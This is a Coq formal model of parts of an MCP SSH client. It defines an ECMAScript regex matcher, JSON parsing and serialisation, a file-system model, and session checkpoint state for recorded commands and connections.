(** * Security agent, session state and checkpoint store of the MCP SSH client

    A shallow embedding of [secagent.ts] (the security agent), [session.ts]
    (session state and checkpoint persistence), the key masking of
    [logger.ts] and the start-up statements and command handler of
    [index.ts], together with the two platform services they lean on:
    ECMAScript regular expressions (the fragment the agent's patterns use)
    and [JSON.stringify] / [JSON.parse]. *)

From Stdlib Require Import ZArith NArith Lia Bool Ascii String.
From Stdlib Require Import DecimalFacts DecimalPos DecimalN.
From stdpp Require Import base option list gmap.

Local Open Scope N_scope.

(** ** ECMAScript strings

    An ECMAScript string is a finite sequence of UTF-16 code units.  Pattern
    matching without the [u] flag, [String.prototype.includes] and JSON
    quoting all work on code units, so that is the representation used. *)

Module JsString.

Abbreviation code_unit := N.
Abbreviation jsstring := (list code_unit).

(** Code units of an ASCII literal of the source text. *)
Definition str (s : string) : jsstring :=
  map N_of_ascii (list_ascii_of_string s).

Definition chr (a : ascii) : code_unit := N_of_ascii a.

Definition in_range (lo hi c : code_unit) : bool := (lo <=? c) && (c <=? hi).

(** [\d], [\w] of a pattern without the [i] and [u] flags. *)
Definition is_digit (c : code_unit) : bool := in_range 48 57 c.

Definition is_word (c : code_unit) : bool :=
  in_range 97 122 c || in_range 65 90 c || is_digit c || (c =? 95).

(** LineTerminator: LF, CR, LS, PS. *)
Definition is_line_terminator (c : code_unit) : bool :=
  (c =? 10) || (c =? 13) || (c =? 8232) || (c =? 8233).

(** WhiteSpace: TAB, VT, FF, ZWNBSP and the space separators (Zs). *)
Definition is_white_space (c : code_unit) : bool :=
  (c =? 9) || (c =? 11) || (c =? 12) || (c =? 32) || (c =? 160) ||
  (c =? 5760) || in_range 8192 8202 c || (c =? 8239) || (c =? 8287) ||
  (c =? 12288) || (c =? 65279).

(** [\s], also the set [String.prototype.trim] strips. *)
Definition is_space (c : code_unit) : bool :=
  is_white_space c || is_line_terminator c.

Fixpoint is_prefix (p s : jsstring) : bool :=
  match p, s with
  | [], _ => true
  | _ :: _, [] => false
  | a :: p', b :: s' => (a =? b) && is_prefix p' s'
  end.

(** [s.includes(p)]: [p] occurs in [s] as a contiguous run of code units. *)
Fixpoint includes (s p : jsstring) : bool :=
  is_prefix p s ||
  match s with
  | [] => false
  | _ :: s' => includes s' p
  end.

Fixpoint trim_start (s : jsstring) : jsstring :=
  match s with
  | c :: s' => if is_space c then trim_start s' else s
  | [] => []
  end.

Definition trim (s : jsstring) : jsstring :=
  rev (trim_start (rev (trim_start s))).

End JsString.
Import JsString.

(** ** Regular expressions

    The abstract syntax of the pattern fragment used by the agent (no flags,
    no captures referenced, no look-around) and [RegExp.prototype.test].
    For such patterns the backtracking matcher of the language finds a match
    exactly when one exists, so [test] is computed from the set of positions
    at which a match starting at a given position can end. *)

Module RegExp.

Inductive class_item :=
| CChar (c : code_unit)          (* a literal class member *)
| CRange (lo hi : code_unit)     (* a-z *)
| CWord                          (* \w *)
| CDigit                         (* \d *)
| CSpace.                        (* \s *)

Inductive regex :=
| RChar (c : code_unit)                        (* pattern character *)
| RAny                                         (* .  *)
| RClass (negated : bool) (items : list class_item)  (* [...]  [^...] *)
| RBol                                         (* ^  *)
| REol                                         (* $  *)
| RWordB                                       (* \b *)
| REmpty                                       (* the empty alternative *)
| RSeq (r1 r2 : regex)
| RAlt (r1 r2 : regex)                         (* r1|r2 *)
| RStar (r : regex)                            (* r* *)
| RPlus (r : regex)                            (* r+ *)
| ROpt (r : regex).                            (* r? *)

Definition item_matches (c : code_unit) (it : class_item) : bool :=
  match it with
  | CChar d => c =? d
  | CRange lo hi => in_range lo hi c
  | CWord => is_word c
  | CDigit => is_digit c
  | CSpace => is_space c
  end.

Definition class_matches (negated : bool) (items : list class_item)
    (c : code_unit) : bool :=
  xorb negated (existsb (item_matches c) items).

(** One code unit is consumed at position [i] when it satisfies [p]. *)
Definition step_char (s : jsstring) (p : code_unit -> bool) (i : nat)
    : list nat :=
  match nth_error s i with
  | Some c => if p c then [S i] else []
  | None => []
  end.

Definition word_at (s : jsstring) (i : nat) : bool :=
  match nth_error s i with
  | Some c => is_word c
  | None => false
  end.

(** [\b]: exactly one of the two neighbours of position [i] is a word
    character; outside the input counts as a non-word character. *)
Definition at_word_boundary (s : jsstring) (i : nat) : bool :=
  xorb (match i with O => false | S j => word_at s j end) (word_at s i).

Definition guard (b : bool) (i : nat) : list nat := if b then [i] else [].

(** Iterating a body from position [i]: an iteration that does not advance
    adds no end position, so only advancing iterations are followed and
    [fuel] bounds the number of iterations by the remaining input. *)
Fixpoint iterate (body : nat -> list nat) (fuel : nat) (i : nat) : list nat :=
  i ::
  match fuel with
  | O => []
  | S fuel' =>
      flat_map (fun j => if (i <? j)%nat then iterate body fuel' j else [])
               (body i)
  end.

(** End positions of the matches of [r] in [s] that start at [i]. *)
Fixpoint ends (s : jsstring) (r : regex) (i : nat) : list nat :=
  match r with
  | RChar c => step_char s (N.eqb c) i
  | RAny => step_char s (fun c => negb (is_line_terminator c)) i
  | RClass negated items => step_char s (class_matches negated items) i
  | RBol => guard (i =? 0)%nat i
  | REol => guard (i =? length s)%nat i
  | RWordB => guard (at_word_boundary s i) i
  | REmpty => [i]
  | RSeq r1 r2 => flat_map (ends s r2) (ends s r1 i)
  | RAlt r1 r2 => ends s r1 i ++ ends s r2 i
  | RStar r' => iterate (ends s r') (length s - i) i
  | RPlus r' => flat_map (iterate (ends s r') (length s - i)) (ends s r' i)
  | ROpt r' => i :: ends s r' i
  end.

Definition matches_at (r : regex) (s : jsstring) (i : nat) : bool :=
  match ends s r i with [] => false | _ :: _ => true end.

(** [r.test(s)] for a pattern without the [g] and [y] flags: some start
    position [0 .. length s] admits a match. *)
Definition test (r : regex) (s : jsstring) : bool :=
  existsb (matches_at r s) (seq 0 (S (length s))).

(** Pattern-building shorthands. *)
Definition cat (rs : list regex) : regex := foldr RSeq REmpty rs.
Definition lit (s : string) : regex := cat (map RChar (str s)).
Definition ch (a : ascii) : regex := RChar (chr a).
Definition space : regex := RClass false [CSpace].
Definition digit : regex := RClass false [CDigit].
Definition letters : regex := RClass false [CRange (chr "a") (chr "z"); CRange (chr "A") (chr "Z")].

End RegExp.
Import RegExp.

(** ** Completions

    Every modelled operation ends normally with a value, or throws.  The
    third outcome marks an input on which the embedding is silent (a
    well-formed JSON text that holds a number other than a safe integer
    written without fraction or exponent); no statement is made about it,
    and [try]/[catch] does not intercept it. *)

Module Completion.

Inductive exn := TypeError | SyntaxError | SystemError | RequestError.

Inductive completion (A : Type) :=
| Normal (a : A)
| Throw (e : exn)
| Unmodelled.
Arguments Normal {A} a.
Arguments Throw {A} e.
Arguments Unmodelled {A}.

Definition bind {A B} (m : completion A) (k : A -> completion B)
    : completion B :=
  match m with
  | Normal a => k a
  | Throw e => Throw e
  | Unmodelled => Unmodelled
  end.

(** [try { m } catch (error) { handler }] *)
Definition try_catch {A} (m : completion A) (handler : exn -> completion A)
    : completion A :=
  match m with
  | Throw e => handler e
  | _ => m
  end.

End Completion.
Import Completion.

#[global] Instance completion_ret : MRet completion := @Normal.
#[global] Instance completion_bind : MBind completion := fun A B k m => bind m k.

(** ** JSON values, [JSON.stringify] and [JSON.parse] *)

Module Json.

(** A number is carried as an integer: the embedding covers the safe
    integers, on which a double and its decimal text agree exactly.  The
    members of an object are its own properties in property-enumeration
    order. *)
#[local] Unset Elimination Schemes.
Inductive json :=
| JNull
| JBool (b : bool)
| JNum (n : Z)
| JStr (s : jsstring)
| JArr (items : list json)
| JObj (members : list (jsstring * json)).
#[local] Set Elimination Schemes.

Definition max_safe_integer : Z := 9007199254740991.

Definition is_safe_integer (n : Z) : bool :=
  ((- max_safe_integer <=? n) && (n <=? max_safe_integer))%Z.

(** *** Property access *)

Fixpoint assoc (k : jsstring) (members : list (jsstring * json))
    : option json :=
  match members with
  | [] => None
  | (k', v) :: rest => if decide (k' = k) then Some v else assoc k rest
  end.

(** [value.key] for a [value] produced by [JSON.parse]: [None] is
    [undefined]; reading a property of [null] throws.  Primitives and arrays
    have no own or inherited property under the configuration keys. *)
Definition get (value : json) (key : jsstring) : completion (option json) :=
  match value with
  | JNull => Throw TypeError
  | JObj members => Normal (assoc key members)
  | _ => Normal None
  end.

(** *** Conversion to a string

    Whether [`${value}`] throws, for a [value] produced by [JSON.parse].  An
    object is converted by its [toString] method, then by [valueOf]: an own
    [toString] property hides the inherited method and is never callable,
    and [Object.prototype.valueOf] answers the object itself, which is no
    primitive, so the conversion throws a [TypeError].  An array is
    converted by [Array.prototype.join], which converts each element other
    than [null].  Every other value has a text. *)
Fixpoint to_string_throws (value : json) : bool :=
  match value with
  | JObj members =>
      existsb (fun member => bool_decide (member.1 = str "toString")) members
  | JArr items => existsb to_string_throws items
  | _ => false
  end.

(** *** Number text *)

Fixpoint digits (u : Decimal.uint) : jsstring :=
  match u with
  | Decimal.Nil => []
  | Decimal.D0 u => 48 :: digits u
  | Decimal.D1 u => 49 :: digits u
  | Decimal.D2 u => 50 :: digits u
  | Decimal.D3 u => 51 :: digits u
  | Decimal.D4 u => 52 :: digits u
  | Decimal.D5 u => 53 :: digits u
  | Decimal.D6 u => 54 :: digits u
  | Decimal.D7 u => 55 :: digits u
  | Decimal.D8 u => 56 :: digits u
  | Decimal.D9 u => 57 :: digits u
  end.

(** Number::toString on an integer below 10^21 in magnitude. *)
Definition number_to_string (n : Z) : jsstring :=
  match n with
  | Z0 => [48]
  | Zpos p => digits (Pos.to_uint p)
  | Zneg p => 45 :: digits (Pos.to_uint p)
  end.

Definition digit_of (c : code_unit) : option (Decimal.uint -> Decimal.uint) :=
  if c =? 48 then Some Decimal.D0 else
  if c =? 49 then Some Decimal.D1 else
  if c =? 50 then Some Decimal.D2 else
  if c =? 51 then Some Decimal.D3 else
  if c =? 52 then Some Decimal.D4 else
  if c =? 53 then Some Decimal.D5 else
  if c =? 54 then Some Decimal.D6 else
  if c =? 55 then Some Decimal.D7 else
  if c =? 56 then Some Decimal.D8 else
  if c =? 57 then Some Decimal.D9 else None.

(** The longest run of decimal digits at the front of [s]. *)
Fixpoint read_digits (s : jsstring) : Decimal.uint * jsstring :=
  match s with
  | [] => (Decimal.Nil, [])
  | c :: s' =>
      match digit_of c with
      | Some d => let '(u, rest) := read_digits s' in (d u, rest)
      | None => (Decimal.Nil, s)
      end
  end.

(** *** Objects as built by [JSON.parse]

    Own property keys enumerate array indices first, in ascending numeric
    order, then the other keys in creation order.  Defining a key that
    exists replaces its value in place. *)

Definition array_index (k : jsstring) : option N :=
  match k with
  | [] => None
  | _ :: _ =>
      let '(u, rest) := read_digits k in
      let n := N.of_uint u in
      match rest with
      | [] =>
          if (n <? 4294967295) && bool_decide (digits (N.to_uint n) = k)
          then Some n else None
      | _ :: _ => None
      end
  end.

Fixpoint has_key (k : jsstring) (o : list (jsstring * json)) : bool :=
  match o with
  | [] => false
  | (k', _) :: o' => bool_decide (k' = k) || has_key k o'
  end.

Fixpoint replace_key (k : jsstring) (v : json) (o : list (jsstring * json))
    : list (jsstring * json) :=
  match o with
  | [] => []
  | (k', v') :: o' =>
      if decide (k' = k) then (k', v) :: o' else (k', v') :: replace_key k v o'
  end.

Fixpoint insert_index (i : N) (k : jsstring) (v : json)
    (o : list (jsstring * json)) : list (jsstring * json) :=
  match o with
  | [] => [(k, v)]
  | (k', v') :: o' =>
      match array_index k' with
      | Some j => if j <? i then (k', v') :: insert_index i k v o'
                  else (k, v) :: o
      | None => (k, v) :: o
      end
  end.

(** CreateDataProperty on an ordinary object. *)
Definition obj_set (k : jsstring) (v : json) (o : list (jsstring * json))
    : list (jsstring * json) :=
  if has_key k o then replace_key k v o
  else match array_index k with
       | Some i => insert_index i k v o
       | None => o ++ [(k, v)]
       end.

Definition build_object (ms : list (jsstring * json))
    : list (jsstring * json) :=
  foldl (fun o kv => obj_set kv.1 kv.2 o) [] ms.

(** *** [JSON.parse] *)

Definition is_json_ws (c : code_unit) : bool :=
  (c =? 32) || (c =? 9) || (c =? 10) || (c =? 13).

Fixpoint skip_ws (s : jsstring) : jsstring :=
  match s with
  | c :: s' => if is_json_ws c then skip_ws s' else s
  | [] => []
  end.

Definition hex_value (c : code_unit) : option N :=
  if in_range 48 57 c then Some (c - 48)
  else if in_range 97 102 c then Some (c - 87)
  else if in_range 65 70 c then Some (c - 55)
  else None.

Definition hex4_value (h1 h2 h3 h4 : code_unit) : option code_unit :=
  a ← hex_value h1; b ← hex_value h2; c ← hex_value h3; d ← hex_value h4;
  Some (((a * 16 + b) * 16 + c) * 16 + d).

(** The character after a backslash, other than [u]. *)
Definition single_escape (e : code_unit) : option code_unit :=
  if e =? 34 then Some 34          (* quotation mark *)
  else if e =? 92 then Some 92     (* reverse solidus *)
  else if e =? 47 then Some 47     (* solidus *)
  else if e =? 98 then Some 8      (* b *)
  else if e =? 102 then Some 12    (* f *)
  else if e =? 110 then Some 10    (* n *)
  else if e =? 114 then Some 13    (* r *)
  else if e =? 116 then Some 9     (* t *)
  else None.

Definition cons_unit (c : code_unit) (m : completion (jsstring * jsstring))
    : completion (jsstring * jsstring) :=
  '(body, rest) ← m; Normal (c :: body, rest).

(** The characters of a string literal after its opening quotation mark, up
    to and including the closing one. *)
Fixpoint parse_chars (s : jsstring) : completion (jsstring * jsstring) :=
  match s with
  | [] => Throw SyntaxError
  | c :: s1 =>
      if c =? 34 then Normal ([], s1)
      else if c =? 92 then
        match s1 with
        | [] => Throw SyntaxError
        | e :: s2 =>
            if e =? 117 then
              match s2 with
              | h1 :: h2 :: h3 :: h4 :: s3 =>
                  match hex4_value h1 h2 h3 h4 with
                  | Some u => cons_unit u (parse_chars s3)
                  | None => Throw SyntaxError
                  end
              | _ => Throw SyntaxError
              end
            else
              match single_escape e with
              | Some u => cons_unit u (parse_chars s2)
              | None => Throw SyntaxError
              end
        end
      else if c <? 32 then Throw SyntaxError
      else cons_unit c (parse_chars s1)
  end.

(** What may not follow an integer literal for it to be the whole number:
    a further digit, a fraction or an exponent. *)
Definition head_is_digit (s : jsstring) : bool :=
  match s with
  | c :: _ => is_digit c
  | [] => false
  end.

Definition fraction_or_exponent (s : jsstring) : bool :=
  match s with
  | c :: _ => (c =? 46) || (c =? 101) || (c =? 69)
  | [] => false
  end.

(** One or more decimal digits. *)
Definition digits1 (s : jsstring) : completion jsstring :=
  if head_is_digit s then Normal (read_digits s).2 else Throw SyntaxError.

(** An optional fraction part: whether there is one, and what follows. *)
Definition fraction (s : jsstring) : completion (bool * jsstring) :=
  match s with
  | c :: s' =>
      if c =? 46 then rest ← digits1 s'; Normal (true, rest)
      else Normal (false, s)
  | [] => Normal (false, s)
  end.

(** An optional exponent part. *)
Definition exponent (s : jsstring) : completion (bool * jsstring) :=
  match s with
  | c :: s' =>
      if (c =? 101) || (c =? 69) then
        let s'' :=
          match s' with
          | d :: t => if (d =? 43) || (d =? 45) then t else s'
          | [] => s'
          end in
        rest ← digits1 s''; Normal (true, rest)
      else Normal (false, s)
  | [] => Normal (false, s)
  end.

(** A number literal.  The whole grammar is recognised, so that a malformed
    literal is a syntax error; the value is [None] when the literal is well
    formed and denotes a number the integer model does not carry: one
    written with a fraction or an exponent, an integer that is not safe, or
    the negative zero. *)
Definition parse_number (s : jsstring) : completion (option json * jsstring) :=
  let '(negative, s1) :=
    match s with
    | c :: s' => if c =? 45 then (true, s') else (false, s)
    | [] => (false, s)
    end in
  match s1 with
  | [] => Throw SyntaxError
  | c :: s2 =>
      if negb (is_digit c) then Throw SyntaxError else
      let '(u, s3) :=
        if c =? 48 then (Decimal.D0 Decimal.Nil, s2) else read_digits s1 in
      '(has_fraction, s4) ← fraction s3;
      '(has_exponent, rest) ← exponent s4;
      let n := Z.of_N (N.of_uint u) in
      Normal (if has_fraction || has_exponent
                 || (negative && (n =? 0)%Z) || negb (is_safe_integer n)
              then None
              else Some (JNum (if negative then - n else n)%Z),
              rest)
  end.

Definition expect (word : string) (v : json) (s : jsstring)
    : completion (option json * jsstring) :=
  if is_prefix (str word) s then Normal (Some v, drop (String.length word) s)
  else Throw SyntaxError.

(** A value or a list with a part the model does not carry is not carried
    either. *)
Definition ocons {A} (x : option A) (l : option (list A)) : option (list A) :=
  match x, l with
  | Some a, Some l' => Some (a :: l')
  | _, _ => None
  end.

(** The recursive descent.  A value is [None] when the text is well formed
    and holds a number the model does not carry; the descent goes on past
    it, so that a later syntax error is found.  [Unmodelled] is returned
    only when the fuel runs out. *)
Fixpoint parse_value (fuel : nat) (s : jsstring)
    : completion (option json * jsstring) :=
  match fuel with
  | O => Unmodelled
  | S fuel' =>
      match skip_ws s with
      | [] => Throw SyntaxError
      | c :: s1 =>
          if c =? 123 then
            match skip_ws s1 with
            | [] => Throw SyntaxError
            | c2 :: s2 =>
                if c2 =? 125 then Normal (Some (JObj []), s2)
                else '(ms, s3) ← parse_members fuel' (c2 :: s2);
                     Normal (option_map (fun o => JObj (build_object o)) ms, s3)
            end
          else if c =? 91 then
            match skip_ws s1 with
            | [] => Throw SyntaxError
            | c2 :: s2 =>
                if c2 =? 93 then Normal (Some (JArr []), s2)
                else '(vs, s3) ← parse_elements fuel' (c2 :: s2);
                     Normal (option_map JArr vs, s3)
            end
          else if c =? 34 then
            '(body, s2) ← parse_chars s1; Normal (Some (JStr body), s2)
          else if c =? 116 then expect "true" (JBool true) (c :: s1)
          else if c =? 102 then expect "false" (JBool false) (c :: s1)
          else if c =? 110 then expect "null" JNull (c :: s1)
          else if (c =? 45) || is_digit c then parse_number (c :: s1)
          else Throw SyntaxError
      end
  end
with parse_elements (fuel : nat) (s : jsstring)
    : completion (option (list json) * jsstring) :=
  match fuel with
  | O => Unmodelled
  | S fuel' =>
      '(v, s1) ← parse_value fuel' s;
      match skip_ws s1 with
      | [] => Throw SyntaxError
      | c :: s2 =>
          if c =? 44 then
            '(vs, s3) ← parse_elements fuel' s2; Normal (ocons v vs, s3)
          else if c =? 93 then Normal (ocons v (Some []), s2)
          else Throw SyntaxError
      end
  end
with parse_members (fuel : nat) (s : jsstring)
    : completion (option (list (jsstring * json)) * jsstring) :=
  match fuel with
  | O => Unmodelled
  | S fuel' =>
      match skip_ws s with
      | [] => Throw SyntaxError
      | q :: s1 =>
          if negb (q =? 34) then Throw SyntaxError else
          '(k, s2) ← parse_chars s1;
          match skip_ws s2 with
          | [] => Throw SyntaxError
          | colon :: s3 =>
              if negb (colon =? 58) then Throw SyntaxError else
              '(v, s4) ← parse_value fuel' s3;
              match skip_ws s4 with
              | [] => Throw SyntaxError
              | c :: s5 =>
                  if c =? 44 then
                    '(ms, s6) ← parse_members fuel' s5;
                    Normal (ocons (option_map (pair k) v) ms, s6)
                  else if c =? 125 then
                    Normal (ocons (option_map (pair k) v) (Some []), s5)
                  else Throw SyntaxError
              end
          end
      end
  end.

(** [JSON.parse(text)], no reviver.  A call of [parse_value] that returns
    has consumed a code unit, and a call of [parse_elements] or
    [parse_members] is made by a [parse_value] that has: twice the length
    of the text, and one, is fuel enough.  The text is rejected when it is
    not a JSON text; [Unmodelled] is the answer for a JSON text that holds
    a number the model does not carry. *)
Definition JSON_parse (text : jsstring) : completion json :=
  '(v, rest) ← parse_value (S (2 * length text)) text;
  match skip_ws rest with
  | [] => match v with
          | Some value => Normal value
          | None => Unmodelled
          end
  | _ :: _ => Throw SyntaxError
  end.

(** *** [JSON.stringify] *)

Definition is_lead_surrogate (c : code_unit) : bool := in_range 55296 56319 c.
Definition is_trail_surrogate (c : code_unit) : bool := in_range 56320 57343 c.

Definition hex_digit (d : N) : code_unit :=
  if d <? 10 then 48 + d else 87 + d.

(** UnicodeEscape: backslash, [u] and four lower-case hexadecimal digits. *)
Definition unicode_escape (c : code_unit) : jsstring :=
  [92; 117; hex_digit (c / 4096 mod 16); hex_digit (c / 256 mod 16);
   hex_digit (c / 16 mod 16); hex_digit (c mod 16)].

(** One code point that is not half of a surrogate pair. *)
Definition quote_unit (c : code_unit) : jsstring :=
  if c =? 8 then [92; 98]
  else if c =? 9 then [92; 116]
  else if c =? 10 then [92; 110]
  else if c =? 12 then [92; 102]
  else if c =? 13 then [92; 114]
  else if c =? 34 then [92; 34]
  else if c =? 92 then [92; 92]
  else if (c <? 32) || is_lead_surrogate c || is_trail_surrogate c
       then unicode_escape c
  else [c].

(** The body of QuoteJSONString: a lead surrogate followed by a trail
    surrogate is one code point and is copied; any other surrogate is alone
    and is escaped. *)
Fixpoint quote_chars (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: s1 =>
      if is_lead_surrogate c then
        match s1 with
        | d :: s2 =>
            if is_trail_surrogate d then c :: d :: quote_chars s2
            else unicode_escape c ++ quote_chars s1
        | [] => unicode_escape c
        end
      else quote_unit c ++ quote_chars s1
  end.

Definition quote (s : jsstring) : jsstring := 34 :: quote_chars s ++ [34].

Fixpoint join (sep : jsstring) (parts : list jsstring) : jsstring :=
  match parts with
  | [] => []
  | [p] => p
  | p :: ps => p ++ sep ++ join sep ps
  end.

(** The shared tail of SerializeJSONObject and SerializeJSONArray. *)
Definition wrap (opening closing : code_unit) (gap stepback : jsstring)
    (partial : list jsstring) : jsstring :=
  match partial with
  | [] => [opening; closing]
  | _ :: _ =>
      match gap with
      | [] => [opening] ++ join [44] partial ++ [closing]
      | _ :: _ =>
          let indent := stepback ++ gap in
          [opening; 10] ++ indent ++ join ([44; 10] ++ indent) partial
            ++ [10] ++ stepback ++ [closing]
      end
  end.

Definition colon (gap : jsstring) : jsstring :=
  match gap with [] => [58] | _ :: _ => [58; 32] end.

(** SerializeJSONProperty, with [indent] the indentation on entry. *)
Fixpoint serialize (gap indent : jsstring) (v : json) : jsstring :=
  match v with
  | JNull => str "null"
  | JBool true => str "true"
  | JBool false => str "false"
  | JNum n => number_to_string n
  | JStr s => quote s
  | JArr items =>
      wrap 91 93 gap indent (map (serialize gap (indent ++ gap)) items)
  | JObj members =>
      wrap 123 125 gap indent
        (map (fun '(k, m) =>
                quote k ++ colon gap ++ serialize gap (indent ++ gap) m)
             members)
  end.

(** [JSON.stringify(value, null, space)] with a numeric [space]. *)
Definition JSON_stringify (value : json) (space : nat) : jsstring :=
  serialize (repeat 32 (Nat.min 10 space)) [] value.

(** What may follow a number literal for it to be read back whole. *)
Definition delimited (s : jsstring) : bool :=
  negb (head_is_digit s) && negb (fraction_or_exponent s).

(** *** Values that survive serialisation

    Every number is a safe integer; the keys of an object are distinct and
    none is an array index, so that creation order is enumeration order. *)

Definition plain_key (k : jsstring) : bool :=
  match array_index k with
  | Some _ => false
  | None => true
  end.

Fixpoint representable (v : json) : bool :=
  match v with
  | JNull | JBool _ | JStr _ => true
  | JNum n => is_safe_integer n
  | JArr items => forallb representable items
  | JObj members =>
      forallb (fun '(k, m) => plain_key k && representable m) members
      && bool_decide (NoDup (map fst members))
  end.

(** A bound on the depth of the descent that reads a value back. *)
Fixpoint json_size (v : json) : nat :=
  match v with
  | JArr items => S (list_sum (map (fun m => S (json_size m)) items))
  | JObj members =>
      S (list_sum (map (fun '(_, m) => S (json_size m)) members))
  | _ => O
  end.

(** [text v] is read back as [v] whatever delimited text follows it. *)
Definition reads_back (text : json -> jsstring) (v : json) : Prop :=
  forall rest fuel,
    delimited rest = true -> (json_size v < fuel)%nat ->
    parse_value fuel (text v ++ rest) = Normal (Some v, rest).

End Json.
Import Json.

(** ** The file system and the clock

    A file is held as the text that reading it with the [utf-8] encoding
    yields.  Writing a string stores its UTF-8 encoding, in which a surrogate
    that is not part of a pair is replaced by U+FFFD; a surrogate pair and
    every other code unit are read back unchanged. *)

Module Fs.

Fixpoint utf8_text (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: s1 =>
      if is_lead_surrogate c then
        match s1 with
        | d :: s2 =>
            if is_trail_surrogate d then c :: d :: utf8_text s2
            else 65533 :: utf8_text s1
        | [] => [65533]
        end
      else if is_trail_surrogate c then 65533 :: utf8_text s1
      else c :: utf8_text s1
  end.

(** Text in which every surrogate is half of a pair: encoding and decoding
    it, with whatever follows, leaves it as it is. *)
Definition well_paired (a : jsstring) : Prop :=
  forall b, utf8_text (a ++ b) = a ++ utf8_text b.

Definition readFileSync (path : jsstring) (fs : gmap jsstring jsstring)
    : completion jsstring :=
  match fs !! path with
  | Some text => Normal text
  | None => Throw SystemError
  end.

(** [fs.promises.writeFile(path, data)]: [written] tells whether the
    operating system carried the write out; the file is replaced whole. *)
Definition writeFile (path data : jsstring) (written : bool)
    (fs : gmap jsstring jsstring) : completion unit * gmap jsstring jsstring :=
  if written then (Normal (), <[path := utf8_text data]> fs)
  else (Throw SystemError, fs).

End Fs.
Import Fs.

(** ** session.ts *)

Module Session.

Record CommandResult := {
  exitCode : Z;
  signal : jsstring;
  stdout : jsstring;
  stderr : jsstring;
  completedAt : jsstring
}.

Record CommandInfo := {
  command : jsstring;
  executedAt : jsstring;
  result : option CommandResult
}.

Record ConnectionInfo := {
  host : jsstring;
  port : Z;
  username : jsstring;
  connectedAt : jsstring
}.

Record SessionCheckpoint := {
  connectionInfo : option ConnectionInfo;
  commands : list CommandInfo
}.

(** The two private fields of the class. *)
Record sessionManager := {
  this_connectionInfo : option ConnectionInfo;
  this_commands : list CommandInfo
}.

Definition constructor : sessionManager :=
  {| this_connectionInfo := None; this_commands := [] |}.

Definition setConnectionInfo (info : ConnectionInfo) (this : sessionManager)
    : sessionManager :=
  {| this_connectionInfo := Some info; this_commands := this_commands this |}.

(** [now] is the reading of [new Date().toISOString()]. *)
Definition addCommand (cmd now : jsstring) (this : sessionManager)
    : sessionManager :=
  {| this_connectionInfo := this_connectionInfo this;
     this_commands :=
       this_commands this
         ++ [{| command := cmd; executedAt := now; result := None |}] |}.

(** [Array.prototype.findIndex]: the least index whose element satisfies
    the predicate; [None] stands for -1. *)
Definition findIndex {A} (P : A -> Prop) `{forall x, Decision (P x)}
    (l : list A) : option nat :=
  fst <$> list_find P l.

Definition set_result (r : option CommandResult) (c : CommandInfo)
    : CommandInfo :=
  {| command := command c; executedAt := executedAt c; result := r |}.

(** The parameter is declared [any]; it is stored in a field of type
    [result?], so it ranges over that field's values. *)
Definition setCommandResult (cmd : jsstring) (r : option CommandResult)
    (this : sessionManager) : sessionManager :=
  match findIndex (fun c => command c = cmd) (this_commands this) with
  | Some cmdIndex =>
      {| this_connectionInfo := this_connectionInfo this;
         this_commands := alter (set_result r) cmdIndex (this_commands this) |}
  | None => this
  end.

Definition getCommandHistory (this : sessionManager) : list CommandInfo :=
  this_commands this.

Definition getCheckpoint (this : sessionManager) : SessionCheckpoint :=
  {| connectionInfo := this_connectionInfo this;
     commands := this_commands this |}.

(** The first assignment is guarded by the truthiness of
    [checkpoint.connectionInfo]; an object is truthy, an absent field is
    not.  The second guard, [checkpoint.commands &&
    Array.isArray(checkpoint.commands)], holds of every array, so of every
    value of the declared type. *)
Definition restoreFromCheckpoint (checkpoint : SessionCheckpoint)
    (this : sessionManager) : sessionManager :=
  let this1 :=
    match connectionInfo checkpoint with
    | Some info =>
        {| this_connectionInfo := Some info;
           this_commands := this_commands this |}
    | None => this
    end in
  {| this_connectionInfo := this_connectionInfo this1;
     this_commands := commands checkpoint |}.

(** *** Operation sequences *)

Inductive operation :=
| AddCommand (cmd now : jsstring)
| SetCommandResult (cmd : jsstring) (r : option CommandResult)
| SetConnectionInfo (info : ConnectionInfo).

Definition apply (op : operation) (this : sessionManager) : sessionManager :=
  match op with
  | AddCommand cmd now => addCommand cmd now this
  | SetCommandResult cmd r => setCommandResult cmd r this
  | SetConnectionInfo info => setConnectionInfo info this
  end.

Definition run (ops : list operation) (this : sessionManager)
    : sessionManager :=
  foldl (fun state op => apply op state) this ops.

(** *** The values as [JSON.stringify] sees them

    An object of one of the interfaces, with its properties in creation
    order; an optional field that is absent or [undefined] is not
    serialised, so it contributes no member. *)

Definition optional_member (k : string) (v : option json)
    : list (jsstring * json) :=
  match v with
  | Some j => [(str k, j)]
  | None => []
  end.

Definition result_to_json (r : CommandResult) : json :=
  JObj [(str "exitCode", JNum (exitCode r));
        (str "signal", JStr (signal r));
        (str "stdout", JStr (stdout r));
        (str "stderr", JStr (stderr r));
        (str "completedAt", JStr (completedAt r))].

Definition command_to_json (c : CommandInfo) : json :=
  JObj ([(str "command", JStr (command c));
         (str "executedAt", JStr (executedAt c))]
        ++ optional_member "result" (result_to_json <$> result c)).

Definition connection_to_json (i : ConnectionInfo) : json :=
  JObj [(str "host", JStr (host i));
        (str "port", JNum (port i));
        (str "username", JStr (username i));
        (str "connectedAt", JStr (connectedAt i))].

Definition checkpoint_to_json (c : SessionCheckpoint) : json :=
  JObj (optional_member "connectionInfo"
          (connection_to_json <$> connectionInfo c)
        ++ [(str "commands", JArr (map command_to_json (commands c)))]).

(** *** Checkpoint store *)

(** Both functions log and rethrow what they catch, so the completion of
    the body is the completion of the call. *)
Definition saveCheckpoint (filePath : jsstring) (checkpoint : SessionCheckpoint)
    (written : bool) (fs : gmap jsstring jsstring)
    : completion unit * gmap jsstring jsstring :=
  let '(c, fs') :=
    writeFile filePath (JSON_stringify (checkpoint_to_json checkpoint) 2)
      written fs in
  (try_catch c (fun error => Throw error), fs').

Definition loadCheckpoint (filePath : jsstring) (fs : gmap jsstring jsstring)
    : completion json :=
  try_catch (data ← readFileSync filePath fs; JSON_parse data)
            (fun error => Throw error).

(** Well-formed values of the interfaces: the two numeric fields are
    integers a double holds exactly. *)
Definition wf_result (r : CommandResult) : Prop :=
  is_safe_integer (exitCode r) = true.

Definition wf_command (c : CommandInfo) : Prop :=
  match result c with
  | Some r => wf_result r
  | None => True
  end.

Definition wf_connection (i : ConnectionInfo) : Prop :=
  is_safe_integer (port i) = true.

Definition wf_checkpoint (c : SessionCheckpoint) : Prop :=
  match connectionInfo c with
  | Some i => wf_connection i
  | None => True
  end /\ Forall wf_command (commands c).

End Session.

